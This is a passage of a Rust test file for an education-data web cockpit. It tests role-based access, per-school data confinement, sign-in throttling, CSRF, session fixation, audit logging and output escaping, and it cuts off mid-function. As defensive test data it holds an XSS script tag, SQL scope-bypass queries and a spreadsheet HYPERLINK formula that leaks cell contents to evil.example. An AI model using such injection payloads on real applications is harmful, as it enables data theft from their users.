//! Accounts in the cockpit (issue "Who may see what"): the authorization matrix of every route
//! of the route table against every role and someone not signed in; a clerk kept to its
//! school by every route, parameter and SQL; signing in (throttling, CSRF, session fixation)
//! and out; the audit log of each action; `edulake users`.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use tower::ServiceExt;

use edulake_ingest::Upload;
use edulake_serve::accounts::AuditFilter;
use edulake_serve::web::auth::Who;
use edulake_serve::web::{app, route_table, AppState};
use edulake_transform::access::{Principal, Role};
use edulake_transform::reads::Scope;

use crate::common::*;

/// Three schools in two districts (S1, S2 in D1; S3 in D2) with attendance, and for S1 and
/// S3 an upload of the school with a rejected row (a reject report each).
async fn district_with_rejects() -> Fixture {
    let f = crate::access::three_schools().await;
    for school in ["S1", "S3"] {
        let p = f.write(
            &format!("{school}.csv"),
            format!(
                "date,school_code,class_code,student_id,status\n2026-09-02,{school},7-1,{school}G0,present\n2026-09-02,{school},7-1,{school}G1,不知道\n"
            ),
        );
        f.ingest(
            "attendance",
            Upload {
                school: Some(school.into()),
                ..Default::default()
            },
            &[p],
        )
        .await;
    }
    assert!(f.cli(&["--quiet", "build"]).status.success());
    f
}

/// A signed-in browser: its session cookie and its forms' token.
#[derive(Clone)]
struct Browser {
    cookie: Option<String>,
    csrf: String,
}

impl Browser {
    fn anonymous() -> Browser {
        Browser {
            cookie: None,
            csrf: String::new(),
        }
    }
}

/// An account of the role and scope, signed in (its session started as a sign-in would).
fn signed_in(state: &AppState, login: &str, role: Role, scope: Scope) -> Browser {
    state
        .accounts
        .add(login, &Principal::new(role, scope).unwrap(), None)
        .unwrap();
    let account = state.accounts.get(login).unwrap().unwrap();
    let session = state.accounts.start_session(&account).unwrap();
    Browser {
        cookie: Some(format!(
            "{}={}",
            edulake_serve::web::auth::SESSION_COOKIE,
            session.token
        )),
        csrf: session.csrf,
    }
}

struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: String,
}

async fn send(
    state: &Arc<AppState>,
    browser: &Browser,
    method: &str,
    uri: &str,
    content_type: Option<&str>,
    body: Vec<u8>,
) -> Answer {
    let mut request = Request::builder()
        .method(method)
        .uri(uri)
        .header("host", "127.0.0.1:8080");
    if let Some(c) = &browser.cookie {
        request = request.header("cookie", c);
    }
    if let Some(t) = content_type {
        request = request.header("content-type", t);
    }
    let response = app(state.clone())
        .oneshot(request.body(Body::from(body)).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = axum::body::to_bytes(response.into_body(), 64 << 20)
        .await
        .unwrap();
    Answer {
        status,
        headers,
        body: String::from_utf8_lossy(&bytes).to_string(),
    }
}

async fn get(state: &Arc<AppState>, browser: &Browser, uri: &str) -> Answer {
    send(state, browser, "GET", uri, None, Vec::new()).await
}

/// The upload form of a browser: its token first, then the fields, then one file.
fn upload_form(csrf: &str, fields: &[(&str, &str)], file: &str) -> (String, Vec<u8>) {
    let boundary = "----edulake-accounts-boundary";
    let mut body = String::new();
    for (name, value) in [("csrf", csrf)].iter().chain(fields) {
        body.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        ));
    }
    body.push_str(&format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.csv\"\r\nContent-Type: text/csv\r\n\r\n{file}\r\n--{boundary}--\r\n"
    ));
    (
        format!("multipart/form-data; boundary={boundary}"),
        body.into_bytes(),
    )
}

/// What a request may come to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    /// Answered (2xx).
    Ok,
    /// Sent elsewhere (3xx): to sign in, or to where its scope starts.
    Redirect,
    /// Refused (403).
    Refused,
}

/// The requests the matrix makes of a route: each with a name of what it tries.
fn requests_of(path: &str, method: &str) -> Vec<(&'static str, String)> {
    match (method, path) {
        ("GET", "/") => vec![("", "/".into())],
        ("GET", "/district/{name}") => vec![("own", "/district/D1".into()), ("other", "/district/D2".into())],
        ("GET", "/school/{code}") => vec![("own", "/school/S1".into()), ("other", "/school/S3".into())],
        ("GET", "/notices") => vec![("", "/notices".into())],
        ("GET", "/data") => vec![("", "/data".into()), ("own", "/data?school=S1".into()), ("other", "/data?school=S3".into())],
        ("GET", "/upload") => vec![("", "/upload".into())],
        ("POST", "/upload") => vec![("own", "/upload".into()), ("other", "/upload".into())],
        ("GET", "/rejects/{batch_id}") => vec![("own", "S1".into()), ("other", "S3".into())],
        ("GET", "/sql") => vec![("", "/sql?q=SELECT%20count(*)%20FROM%20attendance_rate_school&format=csv".into())],
        ("GET", "/download") => vec![
            ("own", "/download?indicator=attendance_rate&school=S1&format=csv".into()),
            ("other", "/download?indicator=attendance_rate&school=S3&format=csv".into()),
        ],
        ("GET", "/audit") => vec![("", "/audit".into())],
        ("GET", "/users") => vec![("", "/users".into())],
        ("POST", "/users") => vec![("", "/users".into())],
        ("GET", "/account") => vec![("", "/account".into())],
        ("GET", "/login") => vec![("", "/login".into())],
        ("POST", "/login") => vec![("", "/login".into())],
        ("POST", "/logout") => vec![("", "/logout".into())],
        ("GET", "/assets/style.css") | ("GET", "/assets/icon.svg") | ("GET", "/favicon.ico") => {
            vec![("", path.into())]
        }
        _ => panic!(
            "{method} {path}: a route the authorization matrix does not know; add what each role may do with it"
        ),
    }
}

/// What each role may do, written out here (not read from the route table): `own` is the
/// role's own district or school (D1, S1), `other` another (D2, S3).
fn expected(method: &str, path: &str, tried: &str, role: Option<Role>) -> Outcome {
    use Outcome::*;
    use Role::*;
    let Some(role) = role else {
        return match (method, path) {
            ("GET", "/login")
            | ("GET", "/assets/style.css")
            | ("GET", "/assets/icon.svg")
            | ("GET", "/favicon.ico") => Ok,
            // The sign-in form without its token is refused; so is every other form.
            ("POST", _) => Refused,
            _ => Redirect,
        };
    };
    let bureau = matches!(role, BureauAdmin | BureauAnalyst);
    match (method, path) {
        ("GET", "/assets/style.css") | ("GET", "/assets/icon.svg") | ("GET", "/favicon.ico") => Ok,
        ("GET", "/login") => Redirect,
        ("POST", "/login") => Refused,
        ("POST", "/logout") => Redirect,
        ("GET", "/account") => Ok,
        ("GET", "/sql") => Ok,
        ("GET", "/") if bureau => Ok,
        ("GET", "/") => Redirect,
        ("GET", "/audit") | ("GET", "/users") | ("POST", "/users") if role == BureauAdmin => Ok,
        ("GET", "/notices") if bureau => Ok,
        ("GET", "/district/{name}") if bureau => Ok,
        ("GET", "/district/{name}") if role == DistrictOfficer && tried == "own" => Ok,
        ("GET", "/school/{code}")
        | ("GET", "/data")
        | ("GET", "/download")
        | ("GET", "/rejects/{batch_id}")
            if bureau =>
        {
            Ok
        }
        ("GET", "/school/{code}")
        | ("GET", "/data")
        | ("GET", "/download")
        | ("GET", "/rejects/{batch_id}")
            if matches!(role, DistrictOfficer | SchoolClerk) && tried != "other" =>
        {
            Ok
        }
        ("GET", "/upload") if bureau || role == SchoolClerk => Ok,
        ("POST", "/upload") if bureau => Ok,
        ("POST", "/upload") if role == SchoolClerk && tried == "own" => Ok,
        _ => Refused,
    }
}

#[tokio::test]
async fn every_route_answers_each_role_as_its_rule_says_and_is_audited() {
    let f = district_with_rejects().await;
    let state = cockpit(&f).await;
    let batches = state.reader.batches().await.unwrap();
    let report_of = |school: &str| {
        batches
            .iter()
            .find(|b| b.school_code.as_deref() == Some(school) && b.reject_report.is_some())
            .unwrap_or_else(|| panic!("no reject report of {school}"))
            .batch_id
            .clone()
    };
    let roles: Vec<(Option<Role>, Browser)> = vec![
        (None, Browser::anonymous()),
        (
            Some(Role::BureauAdmin),
            signed_in(&state, "admin", Role::BureauAdmin, Scope::Bureau),
        ),
        (
            Some(Role::BureauAnalyst),
            signed_in(&state, "analyst", Role::BureauAnalyst, Scope::Bureau),
        ),
        (
            Some(Role::DistrictOfficer),
            signed_in(
                &state,
                "officer",
                Role::DistrictOfficer,
                Scope::District("D1".into()),
            ),
        ),
        (
            Some(Role::SchoolClerk),
            signed_in(
                &state,
                "clerk",
                Role::SchoolClerk,
                Scope::School("S1".into()),
            ),
        ),
        (
            Some(Role::Researcher),
            signed_in(&state, "researcher", Role::Researcher, Scope::Bureau),
        ),
    ];
    let mut tried = 0;
    let mut failures = Vec::new();
    // (login, action, target) of every request a rule with an audit name let through or
    // refused: each must be in the log.
    let mut audited: Vec<(String, &str, String)> = Vec::new();
    for rule in route_table() {
        for (what, target) in requests_of(rule.path, rule.method) {
            for (role, browser) in &roles {
                // Signing out ends the session: each role signs out with a session of its own.
                let browser = if rule.path == "/logout" && role.is_some() {
                    let login = role.unwrap().name();
                    let account = state.accounts.get(login_of(login)).unwrap().unwrap();
                    let s = state.accounts.start_session(&account).unwrap();
                    Browser {
                        cookie: Some(format!("edulake_session={}", s.token)),
                        csrf: s.csrf,
                    }
                } else {
                    browser.clone()
                };
                // (Someone not signed in sent to sign in is not logged: anyone may ask that.)
                if !(rule.action.is_empty() || role.is_none() && rule.method == "GET") {
                    let uri = match rule.path {
                        "/rejects/{batch_id}" => format!("/rejects/{}", report_of(&target)),
                        _ => target.clone(),
                    };
                    let login = role.map(|r| login_of(r.name())).unwrap_or("");
                    audited.push((login.to_string(), rule.action, uri));
                }
                let answer = match (rule.method, rule.path) {
                    ("GET", "/rejects/{batch_id}") => {
                        get(
                            &state,
                            &browser,
                            &format!("/rejects/{}", report_of(&target)),
                        )
                        .await
                    }
                    ("POST", "/upload") => {
                        let school = if what == "own" { "S1" } else { "S3" };
                        let (ct, body) = upload_form(
                            &browser.csrf,
                            &[("dataset", "attendance"), ("school", school)],
                            &format!("date,class_code,student_id,status\n2026-09-03,7-1,X{school},present\n"),
                        );
                        send(&state, &browser, "POST", &target, Some(&ct), body).await
                    }
                    ("POST", _) => {
                        // (An account change of no account: the form is taken, nothing changes.)
                        let body = format!("csrf={}&action=disable&login=nobody", browser.csrf)
                            .into_bytes();
                        send(
                            &state,
                            &browser,
                            "POST",
                            &target,
                            Some("application/x-www-form-urlencoded"),
                            body,
                        )
                        .await
                    }
                    _ => get(&state, &browser, &target).await,
                };
                let got = if answer.status.is_success() {
                    Outcome::Ok
                } else if answer.status.is_redirection() {
                    Outcome::Redirect
                } else if answer.status == StatusCode::FORBIDDEN {
                    Outcome::Refused
                } else {
                    failures.push(format!(
                        "{} {target} ({what}) as {role:?}: {} {}",
                        rule.method,
                        answer.status,
                        &answer.body[..answer.body.len().min(300)]
                    ));
                    continue;
                };
                let want = expected(rule.method, rule.path, what, *role);
                if got != want {
                    failures.push(format!(
                        "{} {target} ({what}) as {role:?}: {got:?}, expected {want:?} ({})",
                        rule.method, answer.status
                    ));
                }
                // Someone not signed in is sent to sign in, not to a page.
                if role.is_none() && got == Outcome::Redirect {
                    let to = answer.headers["location"].to_str().unwrap();
                    assert!(to.starts_with("/login"), "{target}: {to}");
                }
                tried += 1;
            }
        }
        // The rule of the table is what the router applies: a rule that lets a role in lets
        // the matrix's expectation in too (the two are written apart, and must agree).
        if let Who::Roles(roles) = rule.who {
            assert!(!roles.is_empty(), "{}", rule.path);
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(tried > 100, "{tried}");

    // Each action of the matrix is in the audit log, with who, what and how it ended.
    let log = state
        .accounts
        .audit_log(&AuditFilter {
            limit: 100_000,
            ..Default::default()
        })
        .unwrap();
    for (login, action, target, outcome) in [
        ("clerk", "page", "/school/S3", "refused"),
        ("clerk", "page", "/school/S1", "ok"),
        (
            "officer",
            "download",
            "/download?indicator=attendance_rate&school=S3&format=csv",
            "refused",
        ),
        (
            "researcher",
            "sql",
            "/sql?q=SELECT%20count(*)%20FROM%20attendance_rate_school&format=csv",
            "ok",
        ),
        ("analyst", "audit", "/audit", "refused"),
        ("admin", "upload", "/upload", "ok"),
        ("", "upload", "/upload", "refused"),
    ] {
        assert!(
            log.iter().any(|e| e.login == login
                && e.action == action
                && e.target == target
                && e.outcome == outcome
                && e.address == "local"),
            "no audit line {login} {action} {target} {outcome}"
        );
    }
    for (login, action, target) in &audited {
        assert!(
            log.iter()
                .any(|e| &e.login == login && e.action == *action && &e.target == target),
            "the audit log misses {login:?} {action} {target}"
        );
    }
    let clerk_line = log.iter().find(|e| e.login == "clerk").unwrap();
    assert_eq!(clerk_line.scope, "school:S1");
    assert_eq!(clerk_line.role, "school_clerk");
}

fn login_of(role: &str) -> &'static str {
    match role {
        "bureau_admin" => "admin",
        "bureau_analyst" => "analyst",
        "district_officer" => "officer",
        "school_clerk" => "clerk",
        _ => "researcher",
    }
}

#[tokio::test]
async fn a_clerk_reaches_no_other_school_by_any_route_parameter_or_sql() {
    let f = district_with_rejects().await;
    let state = cockpit(&f).await;
    let clerk = signed_in(
        &state,
        "clerk",
        Role::SchoolClerk,
        Scope::School("S1".into()),
    );
    // Every query, however written, answers from S1's rows only.
    for sql in [
        "SELECT DISTINCT school_code FROM attendance_rate_class",
        "SELECT DISTINCT a.school_code FROM attendance_rate_class a JOIN attendance_rate_school s ON a.school_code = s.school_code",
        "WITH x AS (SELECT * FROM attendance_rate_school) SELECT DISTINCT school_code FROM x",
        "SELECT DISTINCT school_code FROM (SELECT * FROM attendance_rate_school WHERE true OR school_code = 'S3') t",
    ] {
        let uri = format!("/sql?format=csv&q={}", pct(sql));
        let a = get(&state, &clerk, &uri).await;
        assert_eq!(a.status, StatusCode::OK, "{sql}: {}", a.body);
        assert_eq!(a.body.trim().lines().collect::<Vec<_>>(), ["school_code", "S1"], "{sql}");
    }
    // No table of rows, batches or other schools to name; the answer says so.
    for sql in [
        "SELECT * FROM attendance WHERE school_code = 'S3'",
        "SELECT * FROM batches",
        "SELECT * FROM schools",
    ] {
        let a = get(&state, &clerk, &format!("/sql?format=csv&q={}", pct(sql))).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{sql}: {}", a.body);
    }
    // Downloads: asking for nothing gives its own school; asking for another is refused.
    let own = get(
        &state,
        &clerk,
        "/download?indicator=attendance_rate&format=csv",
    )
    .await;
    assert_eq!(own.status, StatusCode::OK);
    assert!(
        own.body.contains("S1") && !own.body.contains("S2") && !own.body.contains("S3"),
        "{}",
        own.body
    );
    for uri in [
        "/download?indicator=attendance_rate&district=D1&format=csv",
        "/download?table=alerts&school=S3&format=csv",
        "/download?table=batches&district=D2&format=csv",
        "/data?district=D1",
    ] {
        assert_eq!(
            get(&state, &clerk, uri).await.status,
            StatusCode::FORBIDDEN,
            "{uri}"
        );
    }
    // An upload naming another school is refused whole; rows of another school in its own
    // file are rejected, the others stored.
    let (ct, body) = upload_form(
        &clerk.csrf,
        &[("dataset", "attendance"), ("school", "S3")],
        "date,class_code,student_id,status\n2026-09-04,7-1,Z1,present\n",
    );
    let a = send(&state, &clerk, "POST", "/upload", Some(&ct), body).await;
    assert_eq!(a.status, StatusCode::FORBIDDEN);
    let (ct, body) = upload_form(
        &clerk.csrf,
        &[("dataset", "attendance")],
        "date,school_code,class_code,student_id,status\n2026-09-04,S1,7-1,Z1,present\n2026-09-04,S3,7-1,Z2,present\n",
    );
    let a = send(&state, &clerk, "POST", "/upload?lang=en", Some(&ct), body).await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.body);
    assert_eq!(
        f.query("SELECT school_code, count(*) FROM attendance WHERE date = DATE '2026-09-04' GROUP BY 1")
            .await,
        vec![vec!["S1".to_string(), "1".into()]]
    );
    // The batch keeps the name the file was sent under, not where the server kept it.
    assert_eq!(
        f.query("SELECT DISTINCT source_file FROM batches WHERE school_code = 'S1' AND source_file LIKE '%a.csv'")
            .await,
        vec![vec!["a.csv".to_string()]]
    );
    // Nor may it upload the bureau's registry of schools.
    let (ct, body) = upload_form(
        &clerk.csrf,
        &[("dataset", "schools")],
        "school_code,school_name,district,school_type\nS1,一中,D2,初中\n",
    );
    send(&state, &clerk, "POST", "/upload?lang=en", Some(&ct), body).await;
    assert_eq!(
        f.query("SELECT district FROM schools WHERE school_code = 'S1'")
            .await,
        vec![vec!["D1".to_string()]]
    );
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The sign-in form's token and cookie, as a browser gets them.
async fn sign_in_form(state: &Arc<AppState>, browser: &Browser) -> (String, String) {
    let a = get(state, browser, "/login").await;
    let token = a
        .body
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .unwrap()
        .to_string();
    let cookie = a.headers["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    (token, cookie)
}

async fn sign_in(
    state: &Arc<AppState>,
    cookies: &str,
    token: &str,
    login: &str,
    password: &str,
) -> Answer {
    let browser = Browser {
        cookie: Some(cookies.to_string()),
        csrf: String::new(),
    };
    let body = format!(
        "csrf={token}&login={login}&password={}&next=%2Fschool%2FS1",
        pct(password)
    );
    send(
        state,
        &browser,
        "POST",
        "/login",
        Some("application/x-www-form-urlencoded"),
        body.into_bytes(),
    )
    .await
}

#[tokio::test]
async fn signing_in_is_throttled_checked_for_forgery_and_always_a_new_session() {
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let clerk = Principal::new(Role::SchoolClerk, Scope::School("S1".into())).unwrap();
    let password = state.accounts.add("li", &clerk, None).unwrap();
    let anonymous = Browser::anonymous();

    // Once an account exists, nobody reads without signing in.
    let a = get(&state, &anonymous, "/school/S1").await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    assert_eq!(a.headers["location"], "/login?lang=zh&next=%2Fschool%2FS1");

    // A planted session token (session fixation) is not raised to a signed-in session.
    let planted = "ab".repeat(32);
    let (token, form_cookie) = sign_in_form(&state, &anonymous).await;
    let cookies = format!("{form_cookie}; edulake_session={planted}");
    let a = sign_in(&state, &cookies, &token, "li", &password).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(a.headers["location"], "/school/S1");
    let set: Vec<String> = a
        .headers
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .collect();
    let session = set
        .iter()
        .find(|c| c.starts_with("edulake_session="))
        .unwrap();
    assert!(
        session.contains("HttpOnly")
            && session.contains("SameSite=Lax")
            && session.contains("Max-Age="),
        "{session}"
    );
    let token_set = session
        .split(';')
        .next()
        .unwrap()
        .trim_start_matches("edulake_session=");
    assert_ne!(token_set, planted);
    let planted_browser = Browser {
        cookie: Some(format!("edulake_session={planted}")),
        csrf: String::new(),
    };
    assert_eq!(
        get(&state, &planted_browser, "/school/S1").await.status,
        StatusCode::SEE_OTHER
    );
    let signed = Browser {
        cookie: Some(format!("edulake_session={token_set}")),
        csrf: String::new(),
    };
    assert_eq!(
        get(&state, &signed, "/school/S1").await.status,
        StatusCode::OK
    );

    // A sign-in form without the token of its own page (login CSRF) is refused.
    let a = sign_in(
        &state,
        &form_cookie,
        "0".repeat(64).as_str(),
        "li",
        &password,
    )
    .await;
    assert_eq!(a.status, StatusCode::FORBIDDEN);

    // Signing out needs the session's token; then the session is gone.
    let a = send(
        &state,
        &signed,
        "POST",
        "/logout",
        Some("application/x-www-form-urlencoded"),
        b"csrf=wrong".to_vec(),
    )
    .await;
    assert_eq!(a.status, StatusCode::FORBIDDEN);
    let account_page = get(&state, &signed, "/account").await.body;
    let csrf = account_page
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .unwrap()
        .to_string();
    let a = send(
        &state,
        &signed,
        "POST",
        "/logout",
        Some("application/x-www-form-urlencoded"),
        format!("csrf={csrf}").into_bytes(),
    )
    .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    assert_eq!(
        get(&state, &signed, "/school/S1").await.status,
        StatusCode::SEE_OTHER
    );

    // Five wrong passwords, and the right one is refused too until the window passes.
    let (token, form_cookie) = sign_in_form(&state, &anonymous).await;
    for _ in 0..edulake_serve::accounts::FAILURES_PER_LOGIN {
        let a = sign_in(&state, &form_cookie, &token, "li", "wrong password 123").await;
        assert_eq!(a.status, StatusCode::UNAUTHORIZED);
        assert!(a.body.contains("账号或密码不正确"), "{}", a.body);
    }
    let a = sign_in(&state, &form_cookie, &token, "li", &password).await;
    assert_eq!(a.status, StatusCode::TOO_MANY_REQUESTS, "{}", a.body);
    assert!(a.headers.contains_key("retry-after"));
    // Another account from the same address is not held up by li's failures.
    let other = state.accounts.add("wang", &clerk, None).unwrap();
    let a = sign_in(&state, &form_cookie, &token, "wang", &other).await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);

    let log = state.accounts.audit_log(&AuditFilter::default()).unwrap();
    for outcome in ["ok", "refused", "throttled"] {
        assert!(
            log.iter()
                .any(|e| e.action == "sign_in" && e.login == "li" && e.outcome == outcome),
            "{outcome}"
        );
    }
}

#[test]
fn users_are_added_listed_disabled_and_reset_from_the_command_line() {
    let f = Fixture::new();
    let o = f.cli(&[
        "users",
        "add",
        "zhang",
        "--role",
        "district_officer",
        "--district",
        "长安区",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = String::from_utf8(o.stdout).unwrap();
    let password = out.rsplit(' ').next().unwrap().trim().to_string();
    assert_eq!(password.len(), 16, "{out}");
    // A clerk needs its school; a bureau role takes no school.
    assert!(!f
        .cli(&["users", "add", "li", "--role", "school_clerk"])
        .status
        .success());
    assert!(!f
        .cli(&[
            "users",
            "add",
            "li",
            "--role",
            "bureau_admin",
            "--school",
            "S1"
        ])
        .status
        .success());
    assert!(!f
        .cli(&["users", "add", "zhang", "--role", "researcher"])
        .status
        .success());
    let list = String::from_utf8(f.cli(&["users", "list"]).stdout).unwrap();
    assert!(
        list.contains("zhang\tdistrict_officer\tdistrict:长安区\tfalse"),
        "{list}"
    );
    assert!(!list.contains(&password));
    let accounts =
        edulake_serve::accounts::Accounts::open(&f.dir.path().join("lake.state")).unwrap();
    assert!(matches!(
        accounts.sign_in("zhang", &password, "127.0.0.1").unwrap(),
        edulake_serve::accounts::SignIn::Started(..)
    ));
    assert!(f.cli(&["users", "disable", "zhang"]).status.success());
    assert!(matches!(
        accounts.sign_in("zhang", &password, "127.0.0.1").unwrap(),
        edulake_serve::accounts::SignIn::Refused
    ));
    let o = f.cli(&["users", "reset-password", "zhang"]);
    let fresh = String::from_utf8(o.stdout)
        .unwrap()
        .rsplit(' ')
        .next()
        .unwrap()
        .trim()
        .to_string();
    assert_ne!(fresh, password);
    assert!(matches!(
        accounts.sign_in("zhang", &fresh, "127.0.0.1").unwrap(),
        edulake_serve::accounts::SignIn::Started(..)
    ));
    // The owner's queries and exports on the command line are in the log too.
    assert!(f.cli(&["sql", "SELECT 42 AS answer"]).status.success());
    let log = accounts.audit_log(&AuditFilter::default()).unwrap();
    assert!(log.iter().any(|e| e.action == "sql"
        && e.target == "SELECT 42 AS answer"
        && e.login == "(command line)"));
    for action in ["account_add", "account_disable", "account_reset_password"] {
        assert!(
            log.iter()
                .any(|e| e.action == action && e.target.starts_with("zhang")),
            "{action}"
        );
    }
}

#[tokio::test]
async fn a_cockpit_on_another_address_needs_an_administrator() {
    let f = crate::access::three_schools().await;
    let open = |addr: &str| {
        edulake_serve::web::AppState::open(
            f.lake.clone(),
            f.state.clone(),
            edulake_serve::web::Serving::at(addr.parse().unwrap()).unwrap(),
        )
    };
    let refused = open("0.0.0.0:8080")
        .await
        .err()
        .expect("served to the network without accounts");
    assert!(refused.to_string().contains("users add"), "{refused}");
    let accounts = edulake_serve::accounts::Accounts::open(f.state.root()).unwrap();
    accounts
        .add(
            "admin",
            &Principal::new(Role::BureauAdmin, Scope::Bureau).unwrap(),
            None,
        )
        .unwrap();
    assert!(open("0.0.0.0:8080").await.is_ok());
}

/// A school named `<script>…` and a notice titled `=HYPERLINK(…)`: pages show them as text,
/// downloads keep the title from being a formula in a spreadsheet.
#[tokio::test]
async fn a_script_in_a_name_and_a_formula_in_a_title_come_out_inert() {
    let f = Fixture::new();
    let name = "<script>alert(1)</script>一中";
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    for (dataset, text) in [
        (
            "schools",
            format!("school_code,school_name,district,school_type\nS1,\"{name}\",<b>D1</b>,初中\n"),
        ),
        (
            "attendance",
            "date,school_code,class_code,student_id,status\n2026-09-01,S1,7-1,G1,present\n"
                .to_string(),
        ),
        (
            "notices",
            format!(
                "notice_id,issuer,title,published_at\nN1,bureau,\"{}\",2026-09-01 08:30\n",
                title.replace('"', "\"\"")
            ),
        ),
        (
            "notice_reads",
            "notice_id,school_code,recipient_id,delivered_at,read_at\nN1,S1,r1,2026-09-01 08:31,2026-09-01 09:31\n"
                .to_string(),
        ),
    ] {
        let p = f.write(&format!("{dataset}.csv"), text);
        let out = f.ingest(dataset, Upload::default(), &[p]).await;
        assert_eq!(stored(&out[0]).rows_rejected, 0, "{dataset}");
    }
    assert!(f.cli(&["--quiet", "build"]).status.success());
    let state = cockpit(&f).await;
    let owner = Browser::anonymous();
    let range = "from=2026-09-01&to=2026-09-01";
    for uri in [
        format!("/?{range}"),
        format!("/district/%3Cb%3ED1%3C%2Fb%3E?{range}"),
        format!("/school/S1?{range}"),
        format!("/notices?{range}"),
        format!("/notices?notice=N1&{range}"),
        format!("/data?{range}"),
    ] {
        let a = get(&state, &owner, &uri).await;
        assert_eq!(a.status, StatusCode::OK, "{uri}: {}", a.body);
        assert!(
            !a.body.contains("<script") && !a.body.contains("<b>D1"),
            "{uri}: markup from the data"
        );
        assert!(
            ["&lt;script&gt;", "&lt;b&gt;", "=HYPERLINK(&quot;http"]
                .iter()
                .any(|w| a.body.contains(w)),
            "{uri}: the name or title is not shown as text"
        );
        assert_eq!(
            a.headers["content-security-policy"],
            edulake_serve::web::guard::CSP
        );
    }
    // The CSV: the title a text, not a formula.
    let csv = get(
        &state,
        &owner,
        &format!("/download?indicator=notice_read_rate&by=notice&format=csv&{range}"),
    )
    .await
    .body;
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    // The workbook: a text cell, no formula anywhere.
    let xlsx = {
        let response = app(state.clone())
            .oneshot(
                Request::builder()
                    .uri(format!(
                        "/download?indicator=notice_read_rate&by=notice&format=xlsx&{range}"
                    ))
                    .header("host", "127.0.0.1:8080")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        axum::body::to_bytes(response.into_body(), 1 << 24)
            .await
            .unwrap()
            .to_vec()
    };
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the workbook"
    );
    let cells = book.worksheet_range(&sheet).unwrap();
    assert!(
        cells
            .used_cells()
            .any(|(_, _, c)| c.to_string().contains("HYPERLINK")),
        "the title is in the workbook"
    );
}

/// Stops a server when the test ends, passed or not.
struct Server(std::process::Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `edulake serve` on all addresses over TLS: it needs an administrator account, answers
/// HTTPS only, and its cookies are `Secure`.
#[tokio::test]
async fn the_cockpit_serves_the_network_over_tls_with_secure_cookies() {
    use std::io::{BufRead, Write};
    let f = crate::access::three_schools().await;
    let (cert, key) = (f.dir.path().join("cert.pem"), f.dir.path().join("key.pem"));
    let made = std::process::Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=localhost",
            "-keyout",
        ])
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .expect("openssl");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let serve = |f: &Fixture| {
        std::process::Command::new(env!("CARGO_BIN_EXE_edulake"))
            .env("EDULAKE_LAKE", f.lake_path())
            .env("EDULAKE_STATE", f.dir.path().join("lake.state"))
            .args(["serve", "--addr", "0.0.0.0:0", "--tls-cert"])
            .arg(&cert)
            .arg("--tls-key")
            .arg(&key)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    // No administrator yet: it will not serve the network.
    let refused = serve(&f).wait_with_output().unwrap();
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("users add"));
    let mut add = std::process::Command::new(env!("CARGO_BIN_EXE_edulake"))
        .env("EDULAKE_LAKE", f.lake_path())
        .env("EDULAKE_STATE", f.dir.path().join("lake.state"))
        .args([
            "users",
            "add",
            "admin",
            "--role",
            "bureau_admin",
            "--password-stdin",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    add.stdin
        .take()
        .unwrap()
        .write_all(b"correct horse battery staple\n")
        .unwrap();
    assert!(add.wait().unwrap().success());

    let mut child = serve(&f);
    let stdout = child.stdout.take().unwrap();
    let _server = Server(child);
    let url = std::io::BufReader::new(stdout)
        .lines()
        .map_while(Result::ok)
        .find_map(|l| {
            l.split_whitespace()
                .find(|w| w.starts_with("https://"))
                .map(str::to_string)
        })
        .expect("the server's address");
    let port = url
        .trim_end_matches('/')
        .rsplit(':')
        .next()
        .unwrap()
        .to_string();
    let curl = |args: &[&str]| {
        let o = std::process::Command::new("curl")
            .args(["-sk", "--max-time", "20", "-D", "-", "-o", "/dev/null"])
            .args(args)
            .output()
            .unwrap();
        (
            o.status.success(),
